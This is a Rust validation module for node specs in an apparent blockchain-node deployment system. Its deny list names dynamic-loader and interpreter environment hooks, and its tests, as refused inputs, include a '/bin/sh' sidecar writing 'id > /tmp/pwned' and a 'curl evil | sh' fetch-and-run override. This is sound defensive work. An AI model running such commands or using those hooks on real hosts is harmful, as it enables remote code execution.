//! Spec validation: structural rules, then the target executor's capabilities.

use crate::executor::ExecutorCapabilities;
use crate::spec::{ClientSpec, NodeSpec, Sidecar, StorageVolume};
use crate::version::Version;
use std::collections::{BTreeMap, BTreeSet};

/// Bounds on a spec, so one request cannot make the control plane, the
/// executor or the unit files it writes grow without limit.
pub mod limits {
    /// Client processes per node.
    pub const CLIENTS_MAX: usize = 8;
    /// Sidecar processes per node.
    pub const SIDECARS_MAX: usize = 8;
    /// Storage volumes per node.
    pub const STORAGE_VOLUMES_MAX: usize = 16;
    /// Config overrides per client.
    pub const CONFIG_OVERRIDES_MAX: usize = 64;
    /// Environment entries per sidecar.
    pub const ENV_ENTRIES_MAX: usize = 64;
    /// Command arguments per sidecar.
    pub const COMMAND_ARGS_MAX: usize = 64;
    /// Any one string in a spec.
    pub const STRING_BYTES_MAX: usize = 4096;
    /// All strings of a spec together.
    pub const SPEC_TEXT_BYTES_MAX: usize = 64 * 1024;
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ValidationError {
    #[error("{field}: must not be empty")]
    Empty { field: String },
    #[error("{field}: {value:?} is not a valid name (lowercase letters, digits and '-', 1-63 chars, starting and ending with a letter or digit)")]
    BadName { field: String, value: String },
    #[error("{field}: {reason}")]
    BadVersion { field: String, reason: String },
    #[error("{field}: duplicate {value:?}")]
    Duplicate { field: String, value: String },
    #[error("{field}: {reason}")]
    Invalid { field: String, reason: String },
    #[error("{field}: control characters are not allowed (found U+{code:04X})")]
    ControlCharacter { field: String, code: u32 },
    #[error("{field}: at most {max} allowed")]
    TooMany { field: String, max: usize },
    #[error("{field}: longer than {max} bytes")]
    TooLong { field: String, max: usize },
    #[error("{field}: {value:?} is not a program this executor's configuration allows ({allowed})")]
    ProgramNotAllowed { field: String, value: String, allowed: String },
    #[error("chain {chain:?} is not supported by this executor (supported: {supported})")]
    UnknownChain { chain: String, supported: String },
    #[error("network {network:?} is not supported for chain {chain:?} (supported: {supported})")]
    UnknownNetwork { chain: String, network: String, supported: String },
    #[error("node type {node_type:?} is not supported for chain {chain:?}")]
    UnsupportedNodeType { chain: String, node_type: String },
    #[error("client {client:?} for role {role:?} is not supported for chain {chain:?} (supported: {supported})")]
    UnknownClient { chain: String, role: String, client: String, supported: String },
    #[error("version {version:?} of {client:?} is not offered by this executor (offered: {offered})")]
    UnknownVersion { client: String, version: String, offered: String },
    #[error("{client} does not run network {network:?} on this executor (its networks: {supported})")]
    ClientNetwork { client: String, network: String, supported: String },
    #[error("{field}: {network} needs {client} >= {min} (the spec has {version})")]
    TooOld { field: String, client: String, network: String, version: String, min: String },
    #[error("{field}: {key:?} is set by the adapter ({why}) and cannot be overridden")]
    ManagedKey { field: String, key: String, why: &'static str },
    #[error("{field}: {key:?} is not a setting {client} lets a spec override (its settings: {allowed})")]
    OverrideNotAllowed { field: String, key: String, client: String, allowed: String },
    #[error("{field}: {key}: {reason}")]
    BadOverride { field: String, key: String, reason: String },
    #[error("{field}: cannot change after deploy: {why}")]
    Fixed { field: String, why: &'static str },
}

impl ValidationError {
    /// The spec field the error is about (`sidecars[0].command[1]`, `chain`).
    pub fn field(&self) -> &str {
        match self {
            ValidationError::Empty { field }
            | ValidationError::BadName { field, .. }
            | ValidationError::BadVersion { field, .. }
            | ValidationError::Duplicate { field, .. }
            | ValidationError::Invalid { field, .. }
            | ValidationError::ControlCharacter { field, .. }
            | ValidationError::TooMany { field, .. }
            | ValidationError::TooLong { field, .. }
            | ValidationError::ProgramNotAllowed { field, .. }
            | ValidationError::TooOld { field, .. }
            | ValidationError::ManagedKey { field, .. }
            | ValidationError::OverrideNotAllowed { field, .. }
            | ValidationError::BadOverride { field, .. }
            | ValidationError::Fixed { field, .. } => field,
            ValidationError::UnknownChain { .. } => "chain",
            ValidationError::UnknownNetwork { .. } => "network",
            ValidationError::UnsupportedNodeType { .. } => "nodeType",
            ValidationError::UnknownClient { .. } | ValidationError::UnknownVersion { .. } | ValidationError::ClientNetwork { .. } => "clients",
        }
    }

    /// A stable name for the kind of error, for programs (a form marks the field).
    pub fn code(&self) -> &'static str {
        match self {
            ValidationError::Empty { .. } => "required",
            ValidationError::BadName { .. } => "invalid_name",
            ValidationError::BadVersion { .. } => "invalid_version",
            ValidationError::Duplicate { .. } => "duplicate",
            ValidationError::Invalid { .. } => "invalid",
            ValidationError::ControlCharacter { .. } => "control_character",
            ValidationError::TooMany { .. } => "too_many",
            ValidationError::TooLong { .. } => "too_long",
            ValidationError::ProgramNotAllowed { .. } => "program_not_allowed",
            ValidationError::UnknownChain { .. } => "chain_not_supported_by_executor",
            ValidationError::UnknownNetwork { .. } => "network_not_supported_by_executor",
            ValidationError::UnsupportedNodeType { .. } => "node_type_not_supported_by_executor",
            ValidationError::UnknownClient { .. } => "client_not_supported_by_executor",
            ValidationError::UnknownVersion { .. } => "version_not_offered_by_executor",
            ValidationError::ClientNetwork { .. } => "client_does_not_run_network",
            ValidationError::TooOld { .. } => "version_below_network_minimum",
            ValidationError::Fixed { .. } => "not_editable",
            ValidationError::ManagedKey { .. } => "override_managed_by_adapter",
            ValidationError::OverrideNotAllowed { .. } => "override_not_allowed",
            ValidationError::BadOverride { .. } => "override_value_invalid",
        }
    }
}

/// A name usable as a systemd unit fragment, a directory, and a Kubernetes object (DNS-1123 label).
pub fn valid_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty() && b.len() <= 63 && b.iter().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || *c == b'-') && b[0] != b'-' && b[b.len() - 1] != b'-'
}

/// C0 controls (NUL, `\r`, `\n`, ESC...) and DEL: never data in a spec.
pub fn is_forbidden_control(c: char) -> bool {
    (c as u32) < 0x20 || c == '\u{7f}'
}

fn check_name(errs: &mut Vec<ValidationError>, field: &str, value: &str) {
    if value.is_empty() {
        errs.push(ValidationError::Empty { field: field.into() });
    } else if !valid_name(value) {
        errs.push(ValidationError::BadName { field: field.into(), value: value.into() });
    }
}

/// Every string of a spec passes here once: the one rule that a spec's text is
/// data (no control characters, bounded length), whatever field it sits in.
struct Text<'e> {
    errs: &'e mut Vec<ValidationError>,
    total_bytes: usize,
}

impl Text<'_> {
    fn check(&mut self, field: impl FnOnce() -> String, value: &str) {
        self.total_bytes += value.len();
        if let Some(c) = value.chars().find(|c| is_forbidden_control(*c)) {
            self.errs.push(ValidationError::ControlCharacter { field: field(), code: c as u32 });
        } else if value.len() > limits::STRING_BYTES_MAX {
            self.errs.push(ValidationError::TooLong { field: field(), max: limits::STRING_BYTES_MAX });
        }
    }

    fn map(&mut self, field: &str, m: &BTreeMap<String, String>) {
        for (k, v) in m {
            self.check(|| format!("{field}[{k:?}] (key)"), k);
            self.check(|| format!("{field}[{k:?}]"), v);
        }
    }
}

/// Every string field of a spec, through one rule. The destructuring is
/// exhaustive on purpose: a new field does not compile until it is placed here.
fn check_all_text(errs: &mut Vec<ValidationError>, spec: &NodeSpec) {
    let mut t = Text { errs, total_bytes: 0 };
    let NodeSpec { name, chain, network, node_type: _, clients, storage, sidecars, desired_state: _, restart_generation: _, p2p_exposure: _ } = spec;
    t.check(|| "name".into(), name);
    t.check(|| "chain".into(), chain);
    t.check(|| "network".into(), network);
    for (i, c) in clients.iter().enumerate() {
        let ClientSpec { role, client, version, image, config_overrides, resources: _, ports } = c;
        t.check(|| format!("clients[{i}].role"), role);
        t.check(|| format!("clients[{i}].client"), client);
        t.check(|| format!("clients[{i}].version"), version);
        if let Some(image) = image {
            t.check(|| format!("clients[{i}].image"), image);
        }
        t.map(&format!("clients[{i}].configOverrides"), config_overrides);
        for name in ports.keys() {
            t.check(|| format!("clients[{i}].ports[{name:?}] (key)"), name);
        }
    }
    for (i, v) in storage.iter().enumerate() {
        let StorageVolume { name, size_gib: _, mount_path, storage_class, holds } = v;
        t.check(|| format!("storage[{i}].name"), name);
        t.check(|| format!("storage[{i}].mountPath"), mount_path);
        if let Some(class) = storage_class {
            t.check(|| format!("storage[{i}].storageClass"), class);
        }
        if let Some(holds) = holds {
            t.check(|| format!("storage[{i}].holds"), holds);
        }
    }
    for (i, s) in sidecars.iter().enumerate() {
        let Sidecar { name, image, command, env, volumes } = s;
        t.check(|| format!("sidecars[{i}].name"), name);
        t.check(|| format!("sidecars[{i}].image"), image);
        for (j, arg) in command.iter().enumerate() {
            t.check(|| format!("sidecars[{i}].command[{j}]"), arg);
        }
        t.map(&format!("sidecars[{i}].env"), env);
        for (j, v) in volumes.iter().enumerate() {
            t.check(|| format!("sidecars[{i}].volumes[{j}].name"), &v.name);
        }
    }
    if t.total_bytes > limits::SPEC_TEXT_BYTES_MAX {
        t.errs.push(ValidationError::TooLong { field: "spec".into(), max: limits::SPEC_TEXT_BYTES_MAX });
    }
}

fn check_count(errs: &mut Vec<ValidationError>, field: &str, len: usize, max: usize) {
    if len > max {
        errs.push(ValidationError::TooMany { field: field.into(), max });
    }
}

/// A config override key is a flag or setting name: `[A-Za-z0-9][A-Za-z0-9._-]*`
/// (no `=`, no leading `-`, so it can never become a second flag or a value).
/// A value that names a file on the host (absolute, home-relative, or
/// climbing with `..`): a client's files are its adapter's to place, so a
/// command-line override may not point a flag at a host path (a config file
/// to read, a secret to echo into a log, another node's data).
pub fn names_host_path(value: &str) -> bool {
    let v = value.trim_start_matches(['"', '\'']);
    v.starts_with('/') || v.starts_with('~') || v.split(['/', '\\', ',', '=', ':', ';']).any(|seg| seg.trim() == "..")
}

fn valid_override_key(k: &str) -> bool {
    let mut chars = k.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphanumeric()) && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
}

/// Environment variables that make a trusted program load or run something
/// else (the dynamic loader, interpreters' startup hooks), plus the executor's
/// own process markers, which identify a process as a node's.
pub fn env_key_forbidden(k: &str) -> bool {
    const PREFIXES: &[&str] =
        &["LD_", "NOVACULA_", "DYLD_", "PYTHON", "PERL5", "PERLLIB", "RUBY", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "NODE_"];
    const EXACT: &[&str] = &[
        "PATH",
        "BASH_ENV",
        "ENV",
        "SHELLOPTS",
        "IFS",
        "GCONV_PATH",
        "GETCONF_DIR",
        "HOSTALIASES",
        "LOCPATH",
        "MALLOC_TRACE",
        "NLSPATH",
        "RESOLV_HOST_CONF",
        "TMPDIR",
        "GIT_EXEC_PATH",
        "HOME",
    ];
    PREFIXES.iter().any(|p| k.starts_with(p)) || EXACT.contains(&k)
}

fn valid_env_key(k: &str) -> bool {
    let mut chars = k.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_') && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Rules that hold for every spec, whatever executor runs it. Returns every problem found.
pub fn validate_structure(spec: &NodeSpec) -> Vec<ValidationError> {
    let mut errs = Vec::new();
    check_all_text(&mut errs, spec);
    check_count(&mut errs, "clients", spec.clients.len(), limits::CLIENTS_MAX);
    check_count(&mut errs, "sidecars", spec.sidecars.len(), limits::SIDECARS_MAX);
    check_count(&mut errs, "storage", spec.storage.len(), limits::STORAGE_VOLUMES_MAX);
    check_name(&mut errs, "name", &spec.name);
    check_name(&mut errs, "chain", &spec.chain);
    check_name(&mut errs, "network", &spec.network);
    if spec.clients.is_empty() {
        errs.push(ValidationError::Empty { field: "clients".into() });
    }
    let mut units = BTreeSet::new();
    for (i, c) in spec.clients.iter().enumerate() {
        check_name(&mut errs, &format!("clients[{i}].role"), &c.role);
        check_name(&mut errs, &format!("clients[{i}].client"), &c.client);
        if let Err(e) = c.version.parse::<Version>() {
            errs.push(ValidationError::BadVersion { field: format!("clients[{i}].version"), reason: e.to_string() });
        }
        if !units.insert(c.role.clone()) {
            errs.push(ValidationError::Duplicate { field: "clients.role".into(), value: c.role.clone() });
        }
        check_count(&mut errs, &format!("clients[{i}].configOverrides"), c.config_overrides.len(), limits::CONFIG_OVERRIDES_MAX);
        for key in c.config_overrides.keys().filter(|k| !valid_override_key(k)) {
            errs.push(ValidationError::Invalid {
                field: format!("clients[{i}].configOverrides"),
                reason: format!("key {key:?} must be a setting name: letters, digits, '.', '_' and '-', not starting with '-'"),
            });
        }
    }
    for (i, s) in spec.sidecars.iter().enumerate() {
        check_name(&mut errs, &format!("sidecars[{i}].name"), &s.name);
        if s.image.trim().is_empty() {
            errs.push(ValidationError::Empty { field: format!("sidecars[{i}].image") });
        }
        if !units.insert(s.name.clone()) {
            errs.push(ValidationError::Duplicate { field: "sidecars.name".into(), value: s.name.clone() });
        }
        check_count(&mut errs, &format!("sidecars[{i}].command"), s.command.len(), limits::COMMAND_ARGS_MAX);
        check_count(&mut errs, &format!("sidecars[{i}].env"), s.env.len(), limits::ENV_ENTRIES_MAX);
        check_count(&mut errs, &format!("sidecars[{i}].volumes"), s.volumes.len(), limits::STORAGE_VOLUMES_MAX);
        let mut seen = BTreeSet::new();
        for (j, v) in s.volumes.iter().enumerate() {
            if !spec.storage.iter().any(|st| st.name == v.name) {
                let names: Vec<&str> = spec.storage.iter().map(|st| st.name.as_str()).collect();
                errs.push(ValidationError::Invalid {
                    field: format!("sidecars[{i}].volumes[{j}].name"),
                    reason: format!("the spec has no storage volume {:?} (its volumes: {})", v.name, list(names.into_iter())),
                });
            } else if !seen.insert(&v.name) {
                errs.push(ValidationError::Duplicate { field: format!("sidecars[{i}].volumes.name"), value: v.name.clone() });
            }
        }
        for key in s.env.keys() {
            if !valid_env_key(key) {
                errs.push(ValidationError::Invalid {
                    field: format!("sidecars[{i}].env"),
                    reason: format!("{key:?} is not a variable name ([A-Za-z_][A-Za-z0-9_]*)"),
                });
            } else if env_key_forbidden(key) {
                errs.push(ValidationError::Invalid {
                    field: format!("sidecars[{i}].env"),
                    reason: format!("{key:?} may not be set by a spec: it changes which program runs or which process is a node's"),
                });
            }
        }
    }
    let mut vols = BTreeSet::new();
    for (i, v) in spec.storage.iter().enumerate() {
        check_name(&mut errs, &format!("storage[{i}].name"), &v.name);
        if v.size_gib == 0 {
            errs.push(ValidationError::Invalid { field: format!("storage[{i}].sizeGib"), reason: "must be at least 1".into() });
        }
        if !v.mount_path.starts_with('/') || v.mount_path.split('/').any(|part| part == "..") {
            errs.push(ValidationError::Invalid {
                field: format!("storage[{i}].mountPath"),
                reason: format!("{:?} must be an absolute path without '..'", v.mount_path),
            });
        }
        if let Some(class) = v.storage_class.as_deref().filter(|c| !valid_subdomain(c)) {
            errs.push(ValidationError::Invalid { field: format!("storage[{i}].storageClass"), reason: format!("{class:?} is not a storage class name") });
        }
        if !vols.insert(v.name.clone()) {
            errs.push(ValidationError::Duplicate { field: "storage.name".into(), value: v.name.clone() });
        }
    }
    check_mount_paths(&mut errs, &spec.storage);
    errs
}

/// Where a pod keeps the node's files (`data/`, `config/`): only the first
/// volume is mounted under it, at `data`.
pub const POD_ROOT: &str = "/novacula";
/// Where the first volume is mounted in a pod: every client's data dir is under it.
pub const POD_DATA_DIR: &str = "/novacula/data";

/// Each volume at a path of its own: not one the container needs (`/`,
/// `/tmp`, the kernel's), not inside another volume, and under
/// [`POD_ROOT`] only the first volume, at [`POD_DATA_DIR`].
fn check_mount_paths(errs: &mut Vec<ValidationError>, storage: &[StorageVolume]) {
    let norm = |p: &str| p.trim_end_matches('/').to_string();
    let within = |p: &str, dir: &str| p == dir || p.starts_with(&format!("{dir}/"));
    for (i, v) in storage.iter().enumerate() {
        let path = norm(&v.mount_path);
        let reason = if path.is_empty() || ["/tmp", "/proc", "/sys", "/dev"].iter().any(|d| within(&path, d)) {
            Some(format!("{:?} is a path the container needs", v.mount_path))
        } else if within(&path, POD_ROOT) && !(i == 0 && path == POD_DATA_DIR) {
            Some(format!("{:?} is where the node's own files live; only the first volume goes there, at {POD_DATA_DIR}", v.mount_path))
        } else {
            storage[..i]
                .iter()
                .map(|o| norm(&o.mount_path))
                .find(|o| within(&path, o) || within(o, &path))
                .map(|o| format!("{:?} is inside or around another volume's path {o:?}", v.mount_path))
        };
        if let Some(reason) = reason {
            errs.push(ValidationError::Invalid { field: format!("storage[{i}].mountPath"), reason });
        }
    }
}

/// Longest node name: a StatefulSet's pods carry a `controller-revision-hash`
/// label of the name plus 11 characters, and a label value holds 63.
pub const NODE_NAME_MAX: usize = 52;

/// What a new node's name must also be, on every backend: a DNS-1035 label
/// (a Service name: starting with a letter) of at most [`NODE_NAME_MAX`]
/// characters. Checked when a node is created; names are never changed after.
pub fn new_node_name(name: &str) -> Result<(), ValidationError> {
    let invalid = |reason: &str| Err(ValidationError::Invalid { field: "name".into(), reason: format!("{name:?} {reason}") });
    if !name.starts_with(|c: char| c.is_ascii_lowercase()) {
        return invalid("must start with a letter (a Kubernetes Service name is a DNS-1035 label)");
    }
    if name.len() > NODE_NAME_MAX {
        return invalid(&format!("is longer than {NODE_NAME_MAX} characters (a StatefulSet's pod labels must fit in 63)"));
    }
    Ok(())
}

/// A DNS-1123 subdomain (Kubernetes object names such as StorageClasses).
fn valid_subdomain(s: &str) -> bool {
    !s.is_empty() && s.len() <= 253 && s.split('.').all(valid_name)
}

/// Structural rules plus what the target executor says it can run.
/// `previous` is the node's spec before an edit (none at deploy).
pub fn validate_spec(spec: &NodeSpec, caps: &ExecutorCapabilities, previous: Option<&NodeSpec>) -> Result<(), Vec<ValidationError>> {
    let mut errs = validate_structure(spec);
    let allowed = &caps.programs;
    for (i, s) in spec.sidecars.iter().enumerate() {
        if !s.image.trim().is_empty() && !allowed.allows_sidecar(&s.image) {
            errs.push(ValidationError::ProgramNotAllowed {
                field: format!("sidecars[{i}].image"),
                value: s.image.clone(),
                allowed: list(allowed.sidecar_programs.iter().chain(&allowed.image_prefixes).map(String::as_str)),
            });
        }
    }
    for (i, c) in spec.clients.iter().enumerate() {
        if let Some(image) = c.image.as_deref().filter(|i| !allowed.allows_image(i)) {
            errs.push(ValidationError::ProgramNotAllowed {
                field: format!("clients[{i}].image"),
                value: image.to_string(),
                allowed: list(allowed.image_prefixes.iter().map(String::as_str)),
            });
        }
    }
    match caps.chain(&spec.chain) {
        None => errs.push(ValidationError::UnknownChain { chain: spec.chain.clone(), supported: list(caps.chains.iter().map(|c| c.chain.as_str())) }),
        Some(chain) => {
            if !chain.networks.iter().any(|n| n == &spec.network) {
                errs.push(ValidationError::UnknownNetwork {
                    chain: spec.chain.clone(),
                    network: spec.network.clone(),
                    supported: list(chain.networks.iter().map(String::as_str)),
                });
            }
            if !chain.node_types.contains(&spec.node_type) {
                errs.push(ValidationError::UnsupportedNodeType { chain: spec.chain.clone(), node_type: spec.node_type.as_str().into() });
            }
            for (i, c) in spec.clients.iter().enumerate() {
                let Some(sup) = chain.client(&c.role, &c.client) else {
                    errs.push(ValidationError::UnknownClient {
                        chain: spec.chain.clone(),
                        role: c.role.clone(),
                        client: c.client.clone(),
                        supported: list(chain.clients.iter().filter(|s| s.role == c.role).map(|s| s.client.as_str())),
                    });
                    continue;
                };
                if !sup.versions.is_empty() && !sup.versions.iter().any(|v| v == &c.version) {
                    errs.push(ValidationError::UnknownVersion {
                        client: c.client.clone(),
                        version: c.version.clone(),
                        offered: list(sup.versions.iter().map(String::as_str)),
                    });
                }
                check_client_rules(&mut errs, i, c, sup, &spec.network);
            }
            check_volumes(&mut errs, spec, chain, previous);
        }
    }
    check_placement(&mut errs, spec, caps);
    if let Some(previous) = previous {
        check_fixed(&mut errs, spec, previous);
    }
    if errs.is_empty() {
        Ok(())
    } else {
        Err(errs)
    }
}

/// What the executor says of one client: the networks it runs, the oldest
/// release per network, and the settings its adapter owns.
fn check_client_rules(errs: &mut Vec<ValidationError>, i: usize, c: &ClientSpec, sup: &crate::executor::ClientSupport, network: &str) {
    if !sup.runs_network(network) {
        errs.push(ValidationError::ClientNetwork {
            client: c.client.clone(),
            network: network.into(),
            supported: list(sup.networks.iter().map(String::as_str)),
        });
    }
    if let (Some(min), Ok(have)) = (sup.min_version(network), c.version.parse::<Version>()) {
        if min.parse::<Version>().is_ok_and(|min| have < min) {
            errs.push(ValidationError::TooOld {
                field: format!("clients[{i}].version"),
                client: c.client.clone(),
                network: network.into(),
                version: c.version.clone(),
                min: min.into(),
            });
        }
    }
    for key in sup.overrides.iter().filter(|o| o.kind == crate::executor::OverrideKind::Secret) {
        if !c.config_overrides.contains_key(&key.name) {
            errs.push(ValidationError::Empty { field: format!("clients[{i}].configOverrides.{}", key.name) });
        }
    }
    for (key, value) in &c.config_overrides {
        if !sup.overrides.is_empty() {
            // A client that lists its settings takes those only, each of its type.
            let field = || format!("clients[{i}].configOverrides");
            match sup.override_key(key) {
                None => errs.push(ValidationError::OverrideNotAllowed {
                    field: field(),
                    key: key.clone(),
                    client: c.client.clone(),
                    allowed: list(sup.overrides.iter().map(|o| o.name.as_str())),
                }),
                Some(o) => {
                    if let Err(reason) = o.check(value) {
                        errs.push(ValidationError::BadOverride { field: field(), key: key.clone(), reason: reason.to_string() });
                    }
                }
            }
            continue;
        }
        if sup.managed_keys.iter().any(|m| m.eq_ignore_ascii_case(key)) {
            errs.push(ValidationError::ManagedKey {
                field: format!("clients[{i}].configOverrides"),
                key: key.clone(),
                why: "network, data directory, JWT, engine API or a port: set ports in `ports`",
            });
        } else if names_host_path(value) {
            errs.push(ValidationError::ManagedKey {
                field: format!("clients[{i}].configOverrides"),
                key: key.clone(),
                why: "its value is a path on the host: files are the adapter's to place",
            });
        }
    }
}

/// The first volume holds the data directories. Each other one holds a part
/// of a client's data that the client can put apart (`holds`), or is a
/// sidecar's; otherwise it would be mounted and never written. A volume kept
/// unchanged from before an edit is left as it was.
fn check_volumes(errs: &mut Vec<ValidationError>, spec: &NodeSpec, chain: &crate::executor::ChainSupport, previous: Option<&NodeSpec>) {
    let usable: Vec<(&str, &str)> = spec
        .clients
        .iter()
        .filter_map(|c| chain.client(&c.role, &c.client))
        .flat_map(|sup| sup.volumes.iter().map(|v| (v.as_str(), sup.client.as_str())))
        .collect();
    let offered = || list(usable.iter().map(|(name, client)| format!("{name} ({client})")).collect::<Vec<_>>().iter().map(String::as_str));
    let mut held = BTreeSet::new();
    for (i, v) in spec.storage.iter().enumerate() {
        let field = format!("storage[{i}].holds");
        match (i, v.holds.as_deref()) {
            (0, Some(_)) => errs.push(ValidationError::Invalid { field, reason: "the first volume holds the data directories, nothing else".into() }),
            (0, None) => {}
            (_, Some(h)) if !usable.iter().any(|(name, _)| *name == h) => errs.push(ValidationError::Invalid {
                field,
                reason: format!("no client of this node can put data on a volume of its own as {h:?} (offered: {})", offered()),
            }),
            (_, Some(h)) => {
                if !held.insert(h) {
                    errs.push(ValidationError::Duplicate { field: "storage.holds".into(), value: h.into() });
                }
            }
            (_, None) => {
                let sidecar = spec.sidecars.iter().any(|s| s.volumes.iter().any(|sv| sv.name == v.name));
                let kept = previous.is_some_and(|p| p.storage.iter().any(|o| o.name == v.name && o.holds.is_none()));
                if !sidecar && !kept {
                    errs.push(ValidationError::Invalid {
                        field,
                        reason: format!(
                            "say which client data volume {:?} holds (offered: {}) or give it to a sidecar: a volume no process uses would be mounted and never written",
                            v.name,
                            offered()
                        ),
                    });
                }
            }
        }
    }
}

/// What an edit may not change: the node's data is of its chain, network,
/// node type and clients, and a volume keeps the class it was made with.
fn check_fixed(errs: &mut Vec<ValidationError>, spec: &NodeSpec, previous: &NodeSpec) {
    const DATA: &str = "the node's data is of it; deploy another node for another";
    let mut fixed = |field: String, why| errs.push(ValidationError::Fixed { field, why });
    if spec.chain != previous.chain {
        fixed("chain".into(), DATA);
    }
    if spec.network != previous.network {
        fixed("network".into(), DATA);
    }
    if spec.node_type != previous.node_type {
        fixed("nodeType".into(), "a full node's data cannot serve as an archive's, nor the reverse");
    }
    let roles = |s: &NodeSpec| s.clients.iter().map(|c| c.role.clone()).collect::<BTreeSet<_>>();
    if roles(spec) != roles(previous) {
        fixed("clients".into(), "a node's processes are its chain's roles");
    }
    for (i, c) in spec.clients.iter().enumerate() {
        if previous.client(&c.role).is_some_and(|p| p.client != c.client) {
            fixed(format!("clients[{i}].client"), DATA);
        }
    }
    for (i, v) in spec.storage.iter().enumerate() {
        if previous.storage.iter().any(|p| p.name == v.name && p.storage_class != v.storage_class) {
            fixed(format!("storage[{i}].storageClass"), "a volume keeps the class it was made with");
        }
    }
}

/// Storage classes and P2P exposure the executor's platform offers.
fn check_placement(errs: &mut Vec<ValidationError>, spec: &NodeSpec, caps: &ExecutorCapabilities) {
    if let Some(classes) = &caps.storage_classes {
        for (i, v) in spec.storage.iter().enumerate() {
            if let Some(class) = v.storage_class.as_deref().filter(|c| !classes.iter().any(|k| k == c)) {
                errs.push(ValidationError::Invalid {
                    field: format!("storage[{i}].storageClass"),
                    reason: format!("{class:?} is not a storage class of this executor (its classes: {})", list(classes.iter().map(String::as_str))),
                });
            }
        }
    }
    let exposure = spec.p2p_exposure;
    if exposure != crate::spec::P2pExposure::None && !caps.p2p_exposures.contains(&exposure) {
        let offered = std::iter::once("none").chain(caps.p2p_exposures.iter().map(|e| e.as_str()));
        errs.push(ValidationError::Invalid {
            field: "p2pExposure".into(),
            reason: format!("this executor cannot expose P2P ports as {:?} (it offers: {})", exposure.as_str(), list(offered)),
        });
    }
}

fn list<'a>(items: impl Iterator<Item = &'a str>) -> String {
    let v: Vec<&str> = items.collect();
    if v.is_empty() {
        "none".into()
    } else {
        v.join(", ")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::executor::{ChainSupport, ClientSupport};
    use crate::fixtures::eth_spec;
    use crate::spec::{NodeType, Sidecar};

    fn caps() -> ExecutorCapabilities {
        ExecutorCapabilities {
            chains: vec![ChainSupport {
                chain: "ethereum".into(),
                networks: vec!["mainnet".into(), "sepolia".into()],
                node_types: vec![NodeType::Full, NodeType::Archive],
                clients: vec![
                    ClientSupport { role: "execution".into(), client: "geth".into(), versions: vec![], volumes: vec!["ancient".into()], ..Default::default() },
                    ClientSupport { role: "consensus".into(), client: "lighthouse".into(), versions: vec!["v5.3.0".into()], ..Default::default() },
                ],
                network_defaults: vec![],
            }],
            programs: crate::ProgramAllowlist { sidecar_programs: vec!["metrics-exporter".into()], image_prefixes: vec![] },
            ..Default::default()
        }
    }

    fn sidecar(name: &str, image: &str) -> Sidecar {
        Sidecar { name: name.into(), image: image.into(), command: vec![], env: Default::default(), volumes: vec![] }
    }

    #[test]
    fn sidecar_running_a_shell_as_root_is_refused() {
        // The attack: a sidecar whose "image" is /bin/sh and whose command writes as root.
        let mut s = eth_spec("n");
        let mut sc = sidecar("pwn", "/bin/sh");
        sc.command = vec!["-c".into(), "id > /tmp/pwned".into()];
        s.sidecars.push(sc);
        let errs = validate_spec(&s, &caps(), None).unwrap_err();
        assert!(
            matches!(&errs[..], [ValidationError::ProgramNotAllowed { field, value, .. }] if field == "sidecars[0].image" && value == "/bin/sh"),
            "{errs:?}"
        );
        assert!(errs[0].to_string().contains("metrics-exporter"), "the error lists what is allowed: {}", errs[0]);
        let mut ok = eth_spec("n");
        ok.sidecars.push(sidecar("exporter", "metrics-exporter"));
        assert_eq!(validate_spec(&ok, &caps(), None), Ok(()));
    }

    #[test]
    fn per_network_rules_refuse_old_releases_other_networks_and_managed_flags() {
        let mut caps = caps();
        caps.chains[0].networks.push("hoodi".into());
        let geth = &mut caps.chains[0].clients[0];
        geth.min_versions = vec![crate::executor::MinVersion { network: "hoodi".into(), version: "1.15.6".into() }];
        geth.managed_keys = vec!["datadir".into(), "http.port".into()];
        caps.chains[0].clients[1].networks = vec!["mainnet".into(), "sepolia".into()];
        let mut s = eth_spec("n");
        s.network = "hoodi".into();
        s.clients[0].config_overrides.insert("HTTP.port".into(), "1".into());
        s.clients[0].config_overrides.insert("cache".into(), "4096".into());
        let errs = validate_spec(&s, &caps, None).unwrap_err();
        let text: Vec<String> = errs.iter().map(ToString::to_string).collect();
        assert_eq!(errs.len(), 3, "{text:?}");
        assert!(text.contains(&"clients[0].version: hoodi needs geth >= 1.15.6 (the spec has 1.14.11)".to_string()), "{text:?}");
        assert!(text.iter().any(|t| t.starts_with("clients[0].configOverrides: \"HTTP.port\" is set by the adapter")), "{text:?}");
        assert!(text.iter().any(|t| t.contains("lighthouse does not run network \"hoodi\"")), "{text:?}");
        s.clients[0].version = "1.15.6".into();
        s.clients[0].config_overrides.remove("HTTP.port");
        s.network = "mainnet".into();
        assert_eq!(validate_spec(&s, &caps, None), Ok(()), "the floor is per network; other keys may be overridden");
    }

    #[test]
    fn a_client_that_lists_its_settings_takes_those_only_each_of_its_type() {
        use crate::executor::{OverrideKey, OverrideKind};
        let key = |name: &str, kind| OverrideKey {
            name: name.into(),
            kind,
            allowed: if kind == OverrideKind::Enum { vec!["ipv4".into(), "onion".into()] } else { vec![] },
            min: (kind == OverrideKind::Integer).then_some(4),
            max: (kind == OverrideKind::Integer).then_some(16384),
            default: None,
            description: String::new(),
        };
        let mut caps = caps();
        caps.chains[0].clients[0].overrides = vec![
            key("dbcache", OverrideKind::Integer),
            key("blocksonly", OverrideKind::Bool),
            key("onlynet", OverrideKind::Enum),
            key("debug", OverrideKind::String),
        ];
        let mut s = eth_spec("n");
        for (k, v) in [("dbcache", "4096"), ("blocksonly", "1"), ("onlynet", "onion"), ("debug", "net")] {
            s.clients[0].config_overrides.insert(k.into(), v.into());
        }
        assert_eq!(validate_spec(&s, &caps, None), Ok(()));
        // A setting that runs a program is simply not among them.
        s.clients[0].config_overrides.insert("blocknotify".into(), "curl evil | sh".into());
        s.clients[0].config_overrides.insert("dbcache".into(), "1".into());
        s.clients[0].config_overrides.insert("blocksonly".into(), "true".into());
        s.clients[0].config_overrides.insert("onlynet".into(), "tor".into());
        let errs = validate_spec(&s, &caps, None).unwrap_err();
